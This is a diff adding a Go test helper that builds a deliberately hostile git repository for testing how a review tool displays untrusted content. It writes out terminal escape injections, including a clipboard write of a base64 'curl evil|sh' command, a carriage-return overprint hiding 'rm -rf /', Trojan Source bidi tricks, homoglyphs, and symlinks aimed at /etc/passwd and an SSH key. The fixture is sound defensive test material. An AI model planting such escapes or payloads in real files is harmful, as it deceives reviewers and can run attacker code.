@@ -1,0 +1,157 @@
+package repotest
+
+import (
+	"encoding/base64"
+	"math/rand/v2"
+	"strings"
+	"testing"
+
+	"github.com/go-git/go-git/v5/plumbing/filemode"
+)
+
+// The hostile fixture of SECURITY-NOTES §3.4, byte for byte as its shell
+// recipe writes it. Tests of every layer (textsafe, scan, the TUI in tmux)
+// open these files and check what the reviewer sees.
+const (
+	// HostileEscapes is escapes.txt: every terminal escape from issue 6,
+	// one per line after the first (CSI cursor/erase, OSC 52 clipboard,
+	// OSC 8 hyperlink, OSC 0/2 title, DCS, C1 CSI as UTF-8 and raw, CR
+	// and BS overprinting).
+	HostileEscapes = "normal line\n" +
+		"ESC CSI: \x1b[31mRED\x1b[0m and clear \x1b[2J\n" +
+		"OSC52: \x1b]52;c;" + hostileClip + "\x07\n" +
+		"OSC8: \x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\\n" +
+		"TITLE: \x1b]0;owned\x07 \x1b]2;owned2\x07\n" +
+		"DCS: \x1bP$q\"p\x1b\\\n" +
+		"C1 CSI byte: \xc2\x9b31m (UTF-8 U+009B) raw C1 \x9b31m\n" +
+		"CR overprint: rm -rf /\rechoXXXXXXXX\n" +
+		"BS overprint: good\b\b\b\bevil\n"
+
+	// HostileTrojan is trojan.c: the Trojan Source paper's
+	// commenting-out example (lines 3-5: the admin-only block looks
+	// commented out but runs, or the reverse, depending on the renderer).
+	HostileTrojan = "#include <stdio.h>\nint main(){ int isAdmin=0;\n" +
+		"  /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n" +
+		"  puts(\"admin\");\n" +
+		"  /* end admins only \u202e { \u2066*/\n}\n"
+
+	// HostileEarlyReturn is trojan_return.c: the paper's early-return
+	// technique. An RLI (U+2067) inside a comment makes the code after
+	// the comment's end display as if it were still comment text, so the
+	// "return 1" that ends main before anything runs looks harmless.
+	HostileEarlyReturn = "#include <stdio.h>\n\nint main(void) {\n" +
+		"    /* log the start-up banner\u2067 /*/ return 1 ;\n" +
+		"    puts(\"started\");\n" +
+		"    return 0;\n}\n"
+
+	// HostileHomoglyph is homoglyph.js: a Cyrillic а identifier (line 2),
+	// a zero-width space (line 3), and U+FEFF, ZWJ, ZWNJ, WJ (line 4).
+	HostileHomoglyph = "var a = \"x\";\n" +
+		"var \xd0\xb0 = \"cyrillic a\";  // U+0430\n" +
+		"if (a\xe2\x80\x8b == \"x\") {} // ZWSP U+200B\n" +
+		"\xef\xbb\xbfBOM mid-file U+FEFF, ZWJ\xe2\x80\x8d ZWNJ\xe2\x80\x8c WJ\xe2\x81\xa0\n"
+
+	// HostileBadUTF8 is badutf8.txt: invalid UTF-8 of every sort.
+	HostileBadUTF8 = "valid then invalid: \xff\xfe \xc3\x28 \xed\xa0\x80 (surrogate) \xf4\x90\x80\x80 (>U+10FFFF) overlong \xc0\xaf\n"
+
+	// HostileNUL is nul.txt, which git calls binary.
+	HostileNUL = "text\x00with NUL\n"
+
+	// HostileNULSource is nulsrc.c: C that GCC compiles (with a warning)
+	// but that git calls binary, so review tools hide it.
+	HostileNULSource = "int main(void){\x00return 42;}\n"
+
+	// Hostile file names.
+	HostileEscName     = "esc\x1b[31mred.txt"
+	HostileNewlineName = "name\nwith newline.txt"
+	HostileBidiName    = "bidi\u202etxt.exe"
+
+	// HostileAuthor is the author and committer name of every commit.
+	HostileAuthor = "Evil\x1b]0;pwned\x07\x1b[2J Author"
+
+	// HostileMessage is the message of the first commit: OSC 52 in the
+	// subject, a concealing SGR and a CR overprint in the body.
+	HostileMessage = "subject \x1b]52;c;ZXZpbA==\x07 hidden\n\nbody \x1b[8mconcealed\x1b[0m\r overprint"
+
+	// HostileTagMessage is the message of the annotated tag "hostile".
+	HostileTagMessage = "release \x1b]0;tagged\x07 notes\n"
+
+	// HostileGitlink is the commit the vendor/sub gitlink pins.
+	HostileGitlink = "1111111111111111111111111111111111111111"
+
+	// HostileLongLineLen is the size of longline.txt: 1 MiB of 'x' and LF.
+	HostileLongLineLen = 1<<20 + 1
+
+	// HostileHugeLen is the size of huge.txt.
+	HostileHugeLen = 100 << 20
+)
+
+// hostileClip is base64("curl evil|sh"), the clipboard payload.
+const hostileClip = "Y3VybCBldmlsfHNo"
+
+// HostileDeepPath is the file at the bottom of a 200-level directory chain.
+var HostileDeepPath = strings.Repeat("d/", 200) + "deep.txt"
+
+// HostileOptions adds the slow parts of the fixture.
+type HostileOptions struct {
+	LongLine bool // longline.txt: one line of 1 MiB
+	Huge     bool // huge.txt: a 100 MiB text file
+}
+
+// Hostile builds the SECURITY-NOTES §3.4 fixture: commit 1 holds every
+// hostile file, name, symlink and the 200-deep directory, with a hostile
+// author and message; commit 2 (HEAD, on main) adds the vendor/sub gitlink.
+// The annotated tag "hostile" points at commit 1.
+func Hostile(t testing.TB, opts HostileOptions) *Repo {
+	t.Helper()
+	if base64.StdEncoding.EncodeToString([]byte("curl evil|sh")) != hostileClip {
+		t.Fatal("repotest: hostile clipboard payload is wrong")
+	}
+	r := New(t)
+	r.Author.Name, r.Author.Email = HostileAuthor, "e@x"
+	tree := Tree{
+		"escapes.txt":        {Content: HostileEscapes},
+		"trojan.c":           {Content: HostileTrojan},
+		"trojan_return.c":    {Content: HostileEarlyReturn},
+		"homoglyph.js":       {Content: HostileHomoglyph},
+		"badutf8.txt":        {Content: HostileBadUTF8},
+		"blob.bin":           {Content: randomBytes(4096)},
+		"nul.txt":            {Content: HostileNUL},
+		"nulsrc.c":           {Content: HostileNULSource},
+		"outside_link":       {Content: "/etc/passwd", Mode: filemode.Symlink},
+		"rel_outside_link":   {Content: "../../../../root/.ssh/id_ed25519", Mode: filemode.Symlink},
+		HostileNewlineName:   {Content: ""},
+		HostileEscName:       {Content: ""},
+		HostileBidiName:      {Content: ""},
+		HostileDeepPath:      {Content: "deep\n"},
+		"README.clean.md":    {Content: "An ordinary file: nothing to see here.\n"},
+		"src/clean/module.c": {Content: "int add(int a, int b) {\n\treturn a + b;\n}\n"},
+	}
+	if opts.LongLine {
+		tree["longline.txt"] = File{Content: strings.Repeat("x", 1<<20) + "\n"}
+	}
+	if opts.Huge {
+		tree["huge.txt"] = File{Content: hugeText()}
+	}
+	first := r.Commit(HostileMessage, tree)
+	r.Tag("hostile", first, HostileTagMessage)
+	tree["vendor/sub"] = File{Content: HostileGitlink, Mode: filemode.Submodule}
+	r.Commit("add gitlink", tree)
+	return r
+}
+
+// randomBytes is deterministic noise for blob.bin.
+func randomBytes(n int) string {
+	rng := rand.New(rand.NewPCG(42, 6))
+	b := make([]byte, n)
+	for i := range b {
+		b[i] = byte(rng.Uint32())
+	}
+	return string(b)
+}
+
+// hugeText is HostileHugeLen bytes of numbered text lines.
+func hugeText() string {
+	const line = "generated line of a very large vendor file, 64 bytes long......\n"
+	return strings.Repeat(line, HostileHugeLen/len(line))
+}
